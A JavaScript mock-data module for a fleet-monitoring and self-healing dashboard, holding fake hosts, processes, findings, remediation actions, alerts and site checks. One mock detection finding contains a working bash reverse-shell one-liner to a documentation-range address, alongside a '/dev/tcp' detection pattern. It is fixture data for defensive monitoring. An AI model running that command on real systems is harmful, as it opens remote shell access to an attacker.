// What the mock fleet looks like. Shapes as in docs/specs/api.md; times are relative to the moment of asking.

export const ago = (seconds) => new Date(Date.now() - seconds * 1000).toISOString().replace('Z', '000Z');
const id = (number) => `0197a000-0000-7000-8000-${String(number).padStart(12, '0')}`;
export const BUSY = id(1);
export const GONE = id(2);
export const NEW = id(3);
export const REVOKED = id(4);
export const ANOMALY = id(101);
export const SIGMA = id(102);
export const DISK = id(103);
export const HEALED = id(201);
export const WOULD = id(202);
export const REVERTED = id(203);

const none = { total: 0, info: 0, low: 0, medium: 0, high: 0, critical: 0, worst: null };

export function hosts() {
  const wave = 0.35 + 0.2 * Math.sin(Date.now() / 4000);
  const base = {
    os: 'Debian GNU/Linux 12 (bookworm)', kernel: '6.12.9-amd64', arch: 'x86_64', cpu_count: 4, memory_bytes: 16_619_909_120,
    boot_time: ago(403_000), agent_version: '0.1.0', healing: 'enforce', info_time: ago(90), enrolled_at: ago(900_000),
    revoked: false, removed_at: null, connected: true, connected_since: ago(7200), remote_address: '10.0.0.7:51514', last_seen: ago(1),
    probes: { real: 6, degraded: 1, broken: 1 }, findings_open: none, metrics_time: ago(1),
  };
  return [
    { ...base, host_id: BUSY, hostname: 'shop-web-1', cpu_utilization: wave, memory_utilization: 0.62,
      findings_open: { ...none, total: 3, low: 1, high: 1, critical: 1, worst: 'critical' } },
    { ...base, host_id: GONE, hostname: 'warehouse-database-with-a-long-name', connected: false, connected_since: null,
      remote_address: null, last_seen: ago(4000), cpu_utilization: null, memory_utilization: null, metrics_time: null,
      healing: 'observe', probes: { real: 8, degraded: 0, broken: 0 }, findings_open: { ...none, total: 2, low: 1, info: 1, worst: 'low' } },
    { ...base, host_id: NEW, hostname: null, os: null, kernel: null, arch: null, cpu_count: null, memory_bytes: null,
      boot_time: null, agent_version: null, healing: null, info_time: null, enrolled_at: ago(20), connected: false,
      connected_since: null, remote_address: null, last_seen: null, probes: { real: 0, degraded: 0, broken: 0 },
      cpu_utilization: null, memory_utilization: null, metrics_time: null },
    { ...base, host_id: REVOKED, hostname: 'retired-mail', revoked: true, connected: false, last_seen: ago(900_000),
      cpu_utilization: null, memory_utilization: null, metrics_time: null, healing: 'absent', probes: { real: 5, degraded: 0, broken: 0 } },
  ];
}

export function probes() {
  const row = (probe, state, reason, hint, seen, lost) => ({ host_id: BUSY, time: ago(12), probe, state, reason, hint, seen, delivered: seen - lost, lost });
  return [
    row('bpf.network', 'DEGRADED', 'accept is not seen: the tracepoint inet_sock_set_state gives no owner', 'use a kernel from 5.15 on', 184_220, 0),
    row('bpf.process', 'REAL', '', '', 918_113, 12),
    row('host.metrics', 'REAL', '', '', 12_003_441, 0),
    row('process.inventory', 'REAL', '', '', 40_112, 0),
    row('site.shop', 'REAL', '', '', 8_120, 0),
    row('systemd.units', 'BROKEN', 'connect to /run/dbus/system_bus_socket: No such file or directory (os error 2)', 'start dbus, or set units.enabled = false', 0, 0),
  ];
}

export function sensor() {
  const row = (family, seen, filtered, aggregated, ring_full) => ({ host_id: BUSY, time: ago(12), family, seen, filtered, aggregated,
    delivered: seen - filtered - aggregated - ring_full, ring_full, map_full: 0, shed: 0, evicted: 4, runs: seen, run_us: Math.round(seen * 0.41),
    run_time_sampled: true, ring_bytes_peak: 1_048_576, ring_bytes: 8_388_608 });
  return [row('file', 4_220_118, 3_900_041, 120_007, 31), row('process', 918_113, 0, 0, 0)];
}

export function processes() {
  const names = ['nginx', 'postgres', 'stress-ng', 'python3', 'fleetmend-agent', 'sshd', 'cron', 'redis-server', 'node', 'bash'];
  return Array.from({ length: 60 }, (_, index) => {
    const comm = names[index % names.length];
    return {
      host_id: BUSY, time: ago(2), pid: 300 + index * 37, start_boot_ns: '402000000000000', ppid: 1, comm, exe: `/usr/bin/${comm}`,
      exe_deleted: index === 9, command_line: `/usr/bin/${comm} --config /etc/${comm}/main.conf --listen 127.0.0.1:${8000 + index} --password ***`,
      uid: index % 3 === 0 ? 0 : 1000, state: 'S', unit: index % 2 ? `${comm}.service` : null, cgroup: `/system.slice/${comm}.service`,
      container_id: null, cpu_core_pct: Math.max(0, 98 - index * 9.7), rss_bytes: 9_000_000 + ((index * 7_919_113) % 900_000_000),
      read_bytes: index * 4096, write_bytes: index * 9000, fd_count: index % 4 ? 12 + index : null, thread_count: 1 + (index % 8),
    };
  });
}

export function units() {
  const row = (unit, active_state, sub_state, description, result = 'success', restart_count = 0) => ({
    host_id: BUSY, time: ago(30), unit, description, load_state: 'loaded', active_state, sub_state, main_pid: active_state === 'active' ? 812 : 0, restart_count, result });
  return [
    row('cron.service', 'active', 'running', 'Regular background program processing daemon'),
    row('nginx.service', 'active', 'running', 'A high performance web server and a reverse proxy server', 'success', 2),
    row('report.service', 'failed', 'failed', 'Nightly report', 'exit-code', 5),
    row('apt-daily.service', 'inactive', 'dead', 'Daily apt download activities'),
  ];
}

export const models = () => [
  { host_id: BUSY, time: ago(20), model: 'host-anomaly', version: '1.0.0', digest: '9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08', state: 'active', reason: 'fitted on 3600 windows of this host', windows: 41_220, fitted_at: ago(3000), inference_p99_us: 412.5, score: 0.31 },
];

export function findings() {
  const row = (finding_id, fields) => ({
    host_id: BUSY, ingested_at: ago(30), time: ago(40), finding_id, first_time: ago(400), count: 1, state: 'open', score: null, subject_kind: 'host',
    subject: 'shop-web-1', pid: null, start_boot_ns: null, techniques: [], tactics: [], factors: [], evidence: {}, ...fields });
  return [
    row(SIGMA, {
      kind: 'sigma', rule: '83dcd9f6-9ca8-4af7-a16e-a1c7a6b51871', title: 'Bash Interactive Reverse Shell', severity: 'critical', subject_kind: 'process', subject: 'bash', pid: 20_411,
      techniques: ['T1059.004', 'T1071.001'], tactics: ['execution', 'command-and-control'],
      factors: [
        { feature: 'CommandLine', value: "bash -i >& /dev/tcp/198.51.100.7/4444 0>&1", expected: '*/dev/tcp/*', contribution: null },
        { feature: 'Image', value: '/usr/bin/bash', expected: '*/bash', contribution: null },
      ],
      evidence: { process_events: { time: ago(41), pid: 20_411, ppid: 20_400, comm: 'bash', parent_comm: 'python3', exe: '/usr/bin/bash', args: ['bash', '-c', 'bash -i >& /dev/tcp/198.51.100.7/4444 0>&1'], uid: 33, cgroup: '/system.slice/nginx.service' } },
    }),
    row(DISK, {
      kind: 'threshold', rule: 'filesystem-full', title: 'filesystem /var/tmp is 96.4 % full', severity: 'high', subject_kind: 'filesystem', subject: '/var/tmp', count: 14,
      factors: [{ feature: 'system.filesystem.utilization', value: 96.4, expected: 90, contribution: 1 }], evidence: { path: '/var/tmp', used_pct: 96.4 },
    }),
    row(ANOMALY, {
      kind: 'anomaly', rule: 'host-anomaly', title: 'this host behaves unlike itself, most of all system.linux.context_switches', severity: 'low', score: 0.9987, count: 6,
      factors: [
        { feature: 'system.linux.context_switches', value: 88_120.4, expected: 4213.9, contribution: 0.46 },
        { feature: 'system.cpu.utilization{user}', value: 0.913, expected: 0.22, contribution: 0.31 },
        { feature: 'process.created', value: 512, expected: 3.2, contribution: 0.14 },
        { feature: 'disk.write.operations', value: 91, expected: 40.1, contribution: 0.06 },
        { feature: 'system.linux.pressure.share{cpu,some}', value: 0.41, expected: 0.02, contribution: 0.03 },
      ],
      evidence: { p: 0.0000021, surprise: 18.8, episodes_per_day: 0.2, layers: { spectral: 0.997, tail: 0.9999, shape: 0.91 } },
    }),
    row(id(104), { kind: 'site', rule: 'site-down', title: 'site shop is down: connection refused', severity: 'high', state: 'resolved', subject_kind: 'site', subject: 'shop', time: ago(3000), first_time: ago(3600), count: 4 }),
    row(id(105), { host_id: GONE, kind: 'threshold', rule: 'unit-failed', title: 'unit report.service has failed (exit-code)', severity: 'low', time: ago(4200), first_time: ago(9000) }),
  ];
}

export function actions() {
  const step = (seconds, stage, reason, extra = {}) => ({ time: ago(seconds), stage, ending: null, reason, before: {}, after: {}, ledger_index: 900 - Math.round(seconds), ...extra });
  const before = { used_pct: 96.4, used_bytes: 10_351_000_000, usable_bytes: 10_737_418_240 };
  const after = { used_pct: 61.2, used_bytes: 6_571_000_000, usable_bytes: 10_737_418_240, deleted_files: 214, deleted_bytes: 3_780_000_000,
    deleted: [{ path: '/var/tmp/build-7781/objects.tar', bytes: 2_100_000_000 }, { path: '/var/tmp/build-7779/objects.tar', bytes: 1_680_000_000 }] };
  const base = { host_id: BUSY, asserted_by_agent: false };
  return [
    { ...base, action_id: HEALED, finding_id: DISK, remedy: 'free-disk-space', target: '/var/tmp', started_at: ago(38.2), ended_at: ago(36.4), stage: 'ended', ending: 'healed', outcome: 'healed',
      reason: '/var/tmp is 61.2 % full after 214 files', before, after,
      steps: [
        step(38.2, 'proposed', 'filesystem /var/tmp is 96.4 % full'), step(38.1, 'journalled', 'files older than 2 days below /var/tmp, none of them open', { before }),
        step(38, 'checked', '/var/tmp is 96.4 % full; from 90 % it counts as full', { before }), step(37.6, 'applied', '214 files deleted', { before }),
        step(36.5, 'verified', '/var/tmp is 61.2 % full after 214 files', { before, after }), step(36.4, 'ended', 'healed', { ending: 'healed', before, after }),
      ] },
    { ...base, action_id: WOULD, finding_id: ANOMALY, remedy: 'throttle-process', target: 'pid 4711 (stress-ng)', started_at: ago(90), ended_at: null, stage: 'would_act', ending: null, outcome: 'would_act',
      reason: 'the policy is observe only: cpu.max of pid 4711 would be set to 50 % of a core', before: { cpu_core_pct: 187.2, limit_core_pct: 50, cgroup: '/fleetmend/throttled/4711' }, after: {},
      asserted_by_agent: true, steps: [step(90, 'proposed', 'pid 4711 has used 187 % of a core for 60 s'), step(89.9, 'would_act', 'the policy is observe only')] },
    { ...base, action_id: REVERTED, finding_id: id(105), remedy: 'restart-unit', target: 'report.service', started_at: ago(5000), ended_at: ago(4988), stage: 'ended', ending: 'failed-safe', outcome: 'failed-safe',
      reason: 'report.service failed again within 10 s; it was left stopped', before: { active_state: 'failed' }, after: { active_state: 'failed' },
      steps: [step(5000, 'proposed', 'unit report.service has failed'), step(4999, 'applied', 'restarted'), step(4989, 'not_verified', 'it failed again'), step(4988, 'ended', 'left stopped', { ending: 'failed-safe' })] },
  ];
}

export function alerts() {
  const delivery = (number, fields) => ({ delivery_id: id(300 + number), receiver: 'on-call', event: 'firing', state: 'delivered', attempts: 1, created_at: ago(300), next_attempt_at: null, delivered_at: ago(299), last_status: 200, last_error: null, ...fields });
  const base = { host_id: BUSY, finding_id: null, value: null, fired_at: null, resolved_at: null, deliveries: [] };
  return [
    { ...base, alert_id: id(401), rule: 'intrusion', state: 'firing', severity: 'critical', finding_id: SIGMA, subject: 'bash', title: 'Bash Interactive Reverse Shell', summary: 'No remedy was tried: the policy has none for Sigma findings.', started_at: ago(320), fired_at: ago(300), changed_at: ago(300),
      deliveries: [delivery(1, {}), delivery(2, { receiver: 'chat', state: 'waiting', attempts: 3, delivered_at: null, next_attempt_at: ago(-25), last_status: 503, last_error: 'the receiver answered 503 Service Unavailable' })] },
    { ...base, alert_id: id(402), rule: 'disk', state: 'healed', severity: 'high', finding_id: DISK, subject: '/var/tmp', title: 'filesystem /var/tmp is 96.4 % full', summary: 'free-disk-space healed it in 1.8 s: 96.4 % before, 61.2 % after.', started_at: ago(400), resolved_at: ago(36), changed_at: ago(36) },
    { ...base, alert_id: id(403), rule: 'unit', state: 'late', severity: 'low', host_id: GONE, finding_id: id(105), subject: 'report.service', title: 'unit report.service has failed (exit-code)', summary: 'restart-unit ended failed-safe: it failed again within 10 s.', started_at: ago(9000), changed_at: ago(4100) },
  ];
}

export function sites() {
  const probe = (site, verdict, reason, fields = {}) => ({
    host_id: BUSY, time: ago(4), site, url: `https://${site}.example/health`, verdict, reason, remote_address: '198.51.100.20:443', http_status: 200, redirect_count: 0,
    dns_ms: 1.8, connect_ms: 11.2, tls_ms: 24.9, first_byte_ms: 48.1, total_ms: 91.4, body_bytes: 5120, tls_version: 'TLSv1.3', certificate_not_after: ago(-61 * 86_400), certificate_issuer: 'Example CA', certificate_fault: null, ...fields });
  const last = (pattern) => Array.from({ length: 60 }, (_, index) => ({ time: ago((60 - index) * 10), verdict: pattern(index), total_ms: pattern(index) === 'up' ? 80 + (index % 9) : null, http_status: pattern(index) === 'up' ? 200 : null }));
  const nothing = { http_status: null, dns_ms: null, connect_ms: null, tls_ms: null, first_byte_ms: null, total_ms: null, remote_address: null, certificate_not_after: null };
  return [
    { host_id: BUSY, site: 'shop', url: 'https://shop.example/health', last: probe('shop', 'up', 'answered 200'), verdicts: last((index) => (index > 20 && index < 26 ? 'down' : 'up')) },
    { host_id: BUSY, site: 'intranet', url: 'https://intranet.example/health', last: probe('intranet', 'unknown', 'our resolver did not answer, and neither do the reference names', nothing), verdicts: last((index) => (index > 50 ? 'unknown' : 'up')) },
    { host_id: BUSY, site: 'legacy', url: 'https://legacy.example/health', last: probe('legacy', 'down', 'connection refused', { ...nothing, dns_ms: 2.1, remote_address: '198.51.100.30:443', certificate_not_after: ago(-9.5 * 86_400) }), verdicts: last((index) => (index > 55 ? 'down' : 'up')) },
  ];
}
